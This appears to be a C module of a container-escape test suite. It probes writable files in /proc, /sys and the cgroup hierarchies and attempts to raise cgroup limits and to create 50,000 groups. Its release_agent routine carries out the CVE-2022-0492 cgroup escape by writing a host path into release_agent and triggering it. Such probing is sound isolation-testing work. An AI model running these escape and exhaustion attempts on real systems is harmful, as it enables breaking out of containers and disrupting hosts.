// SPDX-License-Identifier: GPL-2.0-or-later
// Attempts by files of the kernel's own file systems: what can be opened for writing in /proc, /sys and the control groups.
#include "escape.h"

#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static size_t tree_skip;
static int tree_open;

// Directories of processes are the instance's own.
static int tree_seen(const char *path, const struct stat *st, int type, struct FTW *where) {
        const char *below = path + tree_skip;

        if (where->level == 1 && below[0] == '/' && below[1] >= '0' && below[1] <= '9')
                return FTW_SKIP_SUBTREE;
        if (where->level == 1 && (strcmp(below, "/self") == 0 || strcmp(below, "/thread-self") == 0))
                return FTW_SKIP_SUBTREE;
        if (type != FTW_F || !S_ISREG(st->st_mode))
                return FTW_CONTINUE;
        int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOFOLLOW);
        if (fd < 0)
                return FTW_CONTINUE;
        close(fd);
        say("%s", below);
        tree_open++;
        return FTW_CONTINUE;
}

// ARG: directory. Opening changes nothing; said is every file that opens for writing.
static int writable(const char *arg) {
        tree_skip = strlen(arg);
        nftw(arg, tree_seen, 64, FTW_PHYS | FTW_ACTIONRETVAL);
        return tree_open ? 0 : -EACCES;
}

// The same below a proc or sysfs of its own, without the read-only binds. ARG: proc or sysfs
static int writable_fresh(const char *arg) {
        int r = own_mounts();

        if (r < 0)
                return r;
        if (mount(arg, scratch_dir(), arg, 0, NULL) < 0)
                return -errno;
        return writable(scratch_dir());
}

// ARG: PATH=VALUE
static int write_file(const char *arg) {
        char path[PATH_MAX], *value;

        snprintf(path, sizeof(path), "%s", arg);
        value = strchr(path, '=');
        if (!value)
                return -EINVAL;
        *value++ = 0;
        int fd = open(path, O_WRONLY);
        return fd < 0 ? -errno : result(write(fd, value, strlen(value)));
}

static int read_file(const char *arg) {
        char byte;
        int fd = open(arg, O_RDONLY | O_NONBLOCK);

        return fd < 0 ? -errno : result(read(fd, &byte, 1));
}

// --- control groups

// Everything that would give this instance more.
static int raise_limits(const char *arg) {
        static const char *const files[] = {"memory.max=max",  "memory.high=max", "memory.swap.max=max", "pids.max=max",  "cpu.max=max",
                                            "cpu.weight=10000", "io.weight=10000", "cpuset.cpus=0-1",    "memory.min=1g", "cgroup.freeze=1"};
        Doors doors = {-ENOTSUP};
        char path[PATH_MAX];

        for (size_t i = 0; i < ELEMENTS(files); i++) {
                snprintf(path, sizeof(path), "/sys/fs/cgroup/%s", files[i]);
                errno = -write_file(path);
                door(&doors, files[i], errno ? -1 : 0);
        }
        return doors.result;
}

// A mount of its own of each hierarchy, and in it the files that run something on the host. ARG: what is to be run, a path of the
// host's. With two controllers, that the kernel does not have in one hierarchy, it would be one without any process: CVE-2022-0492.
static int release_agent(const char *arg) {
        static const char *const options[] = {"memory", "pids", "devices", "cpu", "cpuset", "blkio", "freezer", "rdma", "misc", "perf_event",
                                              "net_cls", "hugetlb", "debug", "none,name=systemd", "none,name=hostd-escape"};
        static const char *const files[] = {"release_agent", "notify_on_release", "devices.allow"};
        Doors doors = {-ENOTSUP};
        int r = own_mounts();

        if (r < 0)
                return r;
        for (size_t i = 0; i < ELEMENTS(options); i++) {
                char path[PATH_MAX];
                if (mount("none", scratch_dir(), "cgroup", 0, options[i]) < 0) {
                        door(&doors, options[i], -1);
                        continue;
                }
                say("mounted %s:", options[i]);
                for (size_t k = 0; k < ELEMENTS(files); k++) {
                        snprintf(path, sizeof(path), "%s/%s=%s", scratch_dir(), files[k], k == 0 ? arg : k == 1 ? "1" : "a *:* rwm");
                        errno = -write_file(path);
                        door(&doors, files[k], errno ? -1 : 0);
                }
                snprintf(path, sizeof(path), "%s/escape", scratch_dir());
                if (mkdir(path, 0700) == 0) {
                        snprintf(path, sizeof(path), "%s/escape/notify_on_release=1", scratch_dir());
                        say("child-notify=%s", write_file(path) < 0 ? "refused" : "done");
                        snprintf(path, sizeof(path), "%s/escape/cgroup.procs=0", scratch_dir());
                        pid_t pid = fork();
                        if (pid == 0)
                                _exit(write_file(path) < 0);
                        waitpid(pid, NULL, 0);
                        snprintf(path, sizeof(path), "%s/escape", scratch_dir());
                        (void) rmdir(path);
                }
                (void) umount2(scratch_dir(), MNT_DETACH);
        }
        return doors.result;
}

// A fresh mount of v2: whose root is seen there, and can its limits be written?
static int fresh_cgroup(const char *arg) {
        static const char *const files[] = {"memory.max=max", "pids.max=max", "cpu.max=max", "../cgroup.procs=0"};
        Doors doors = {-ENOTSUP};
        char path[PATH_MAX];
        int r = own_mounts();

        if (r < 0)
                return r;
        if (mount("none", scratch_dir(), "cgroup2", 0, NULL) < 0)
                return -errno;
        for (size_t i = 0; i < ELEMENTS(files); i++) {
                snprintf(path, sizeof(path), "%s/%s", scratch_dir(), files[i]);
                errno = -write_file(path);
                door(&doors, files[i], errno ? -1 : 0);
        }
        snprintf(path, sizeof(path), "%s/hostd.slice", scratch_dir());
        door(&doors, "host-group", access(path, F_OK));
        snprintf(path, sizeof(path), "%s/box", scratch_dir());
        door(&doors, "own-box", access(path, F_OK));
        return doors.result;
}

// Groups without end would be the host's memory and time. All are removed again.
static int many_groups(const char *arg) {
        char path[PATH_MAX];
        int n = 0, code;

        if (mkdir("/sys/fs/cgroup/escape", 0700) < 0)
                return -errno;
        for (; n < 50000; n++) {
                snprintf(path, sizeof(path), "/sys/fs/cgroup/escape/%d", n);
                if (mkdir(path, 0700) < 0)
                        break;
        }
        code = n < 50000 ? -errno : 0;
        say("%d groups", n);
        while (n-- > 0) {
                snprintf(path, sizeof(path), "/sys/fs/cgroup/escape/%d", n);
                (void) rmdir(path);
        }
        (void) rmdir("/sys/fs/cgroup/escape");
        return code;
}

const Attempt attempts_tree[] = {
        {"writable", writable}, {"writable-fresh", writable_fresh}, {"write", write_file},       {"read", read_file},
        {"raise", raise_limits}, {"release-agent", release_agent},  {"fresh-cgroup", fresh_cgroup}, {"many-groups", many_groups},
        {NULL},
};
